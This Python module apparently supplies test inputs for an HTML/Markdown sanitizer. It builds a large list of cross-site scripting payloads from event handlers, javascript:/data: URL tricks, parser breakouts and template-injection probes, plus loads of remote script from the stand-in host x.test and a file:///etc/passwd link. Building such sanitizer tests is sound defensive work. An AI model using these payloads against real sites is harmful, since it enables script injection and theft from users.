"""Payloads: texts that try to run something, load something or lead astray; each says `fire()` where it would."""

from __future__ import annotations

from itertools import product
from typing import Final

_EVENTS = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "onanimationend", "ontransitionend", "onpointerover", "onbeforetoggle", "onscroll", "onwheel", "oncopy", "onpaste", "ondrag", "onkeydown", "onbegin", "onend", "onrepeat", "onpageshow", "onhashchange", "onmessage", "oncontentvisibilityautostatechange", "onauxclick", "onsubmit", "oninput", "onstart", "onloadstart"]  # fmt: skip
_HOSTS = (
    "<img src=x {}>",
    "<svg {}>",
    "<details open {}><summary>a</summary></details>",
    "<body {}>",
)

_SCHEMES = (
    "javascript:fire()", "JaVaScRiPt:fire()", " javascript:fire()", "java\tscript:fire()", "java\nscript:fire()",
    "java&#10;script:fire()", "&#106;avascript:fire()", "&#x6A;avascript:fire()", "javascript&colon;fire()",
    "javascript&#58;fire()", "java\\script:fire()", "\x01javascript:fire()", "vbscript:fire()", "livescript:fire()",
    "data:text/html,<script>fire()</script>", "data:text/html;base64,PHNjcmlwdD5maXJlKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=fire()>", "blob:fire", "file:///etc/passwd", "javascript://%0afire()",
    "javascript:/*--></title>*/fire()", "view-source:javascript:fire()", "jar:javascript:fire()",
)  # fmt: skip
_LINKS = ("[a]({})", "<{}>", "[a][r]\n\n[r]: {}", "![a]({})", '<a href="{}">a</a>')

PAYLOADS: Final = tuple(
    dict.fromkeys(
        [
            "<script>fire()</script>", "<SCRIPT>fire()</SCRIPT>", "<script src=//x.test/a.js></script>",
            "</script><script>fire()</script>", "<scr<script>ipt>fire()</script>", "<script\n>fire()</script\n>",
            "<script/x>fire()</script>", "<script>fire()<!--", "<!--><script>fire()</script>", "--><script>fire()</script>",
            "<![CDATA[><script>fire()</script>]]>", "]]><script>fire()</script>", "<?xml ?><script>fire()</script>",
            "</style><script>fire()</script>", "</title><script>fire()</script>", "</textarea><script>fire()</script>",
            "</article><script>fire()</script>", "</main></body><script>fire()</script>",
            "<noscript><p title='</noscript><img src=x onerror=fire()>'>",
            "<style><img src='</style><img src=x onerror=fire()>'>", "<template><script>fire()</script></template>",
            "<math><mtext><table><mglyph><style><img src=x onerror=fire()>",
            "<math><annotation-xml encoding='text/html'><script>fire()</script></annotation-xml></math>",
            "<svg><foreignObject><script>fire()</script></foreignObject></svg>", "<svg><script>fire()</script></svg>",
            "<svg><a xlink:href='javascript:fire()'><text>a</text></a></svg>",
            "<svg><animate onbegin=fire() attributeName=x dur=1s>", "<svg><set attributeName=onload to=fire()>",
            "<svg><use href='data:image/svg+xml,<svg id=x onload=fire()/>#x'>", "<iframe src=javascript:fire()>",
            "<iframe srcdoc='<script>parent.fire()</script>'>", "<object data=javascript:fire()>", "<embed src=javascript:fire()>",
            "<form action=javascript:fire()><button>a", "<button formaction=javascript:fire()>a", "<isindex action=javascript:fire()>",
            "<input autofocus onfocus=fire()>", "<select autofocus onfocus=fire()>", "<textarea autofocus onfocus=fire()>",
            "<video><source onerror=fire()>", "<audio src=x onerror=fire()>", "<marquee onstart=fire()>a",
            "<base href=//x.test/>", "<link rel=stylesheet href=//x.test/a.css>", "<link rel=import href=//x.test>",
            "<meta http-equiv=refresh content='0;url=javascript:fire()'>", "<meta http-equiv=refresh content='0;url=//x.test'>",
            "<img src=//x.test/a.png>", "<img srcset='//x.test/a.png 1x'>", "<style>@import '//x.test/a.css'</style>",
            "<div style='background:url(//x.test/a)'>a</div>", "<p style=\"width:expression(fire())\">a",
            '"><script>fire()</script>', "'><script>fire()</script>", '" onmouseover="fire()', "' onmouseover='fire()",
            '" autofocus onfocus="fire()" x="', "`onmouseover=fire()", '"/><img src=x onerror=fire()>',
            "&lt;script&gt;fire()&lt;/script&gt;", "&#60;script&#62;fire()&#60;/script&#62;", "\\u003cscript\\u003efire()",
            "＜script＞fire()＜/script＞", "<ſcript>fire()</ſcript>", "<script\u00a0>fire()</script>", "<\x00script>fire()</script>",
            "\u202e<script>fire()</script>", "<img/src=x/onerror=fire()>", "<img src=x onerror\n=\nfire()>",
            "<img src=x onerror=&#102;ire()>", "<img src='x' onerror='fire()' ", "<a href=javascript:fire()>a",
            "{{ 7 * 7 }}", "{% import os %}{{ fire() }}", "{{ self.__init__.__globals__ }}", "${fire()}", "#{fire()}", "<%= fire() %>",
            "`<script>fire()</script>`", "```\n</code></pre><script>fire()</script>\n```", "    </pre><script>fire()</script>",
            "> <script>fire()</script>", "- <img src=x onerror=fire()>", "# <svg onload=fire()>", "**<script>fire()</script>**",
            "[<img src=x onerror=fire()>](https://x.test)", "[a](https://x.test \"\" onmouseover=fire() \"\")",
            "[a](https://x.test' onmouseover='fire())", "[a](<javascript:fire()>)", "[a]: javascript:fire()\n\n[a]",
            "![a](x\" onerror=\"fire())", "![<script>fire()</script>](x)", "<https://x.test/\"onmouseover=fire()>",
            "[![a](x)](javascript:fire())", "[a](java\\\nscript:fire())", "[a\n](javascript:fire())", "*[a]: <script>fire()</script>",
            "[^1]: <script>fire()</script>", "|a|\n|-|\n|<script>fire()</script>|", "{: onclick=fire() }", "a\n{: onclick=fire() }",
            "<a id=lock>a</a>", "<a id=sealed>a</a>", "<form id=location><input name=hash>", "<img name=trustedTypes>",
            "<a id=allowed name=allowed href=javascript:fire()>a</a>", "<x is=y onclick=fire()>a", "<div popover id=lock-form>a",
            "<portal src=//x.test>", "<fencedframe src=//x.test>", "<dialog open onclose=fire()>a", "<object type=text/x-scriptlet data=//x.test>",
        ]
        + [host.format(f"{event}=fire()") for event, host in zip(_EVENTS * 2, _HOSTS * 14, strict=False)]
        + [link.format(scheme) for scheme, link in product(_SCHEMES, _LINKS[:2])]
        + [link.format(scheme) for scheme, link in zip(_SCHEMES, _LINKS[2:] * 8, strict=False)]
    )
)  # fmt: skip
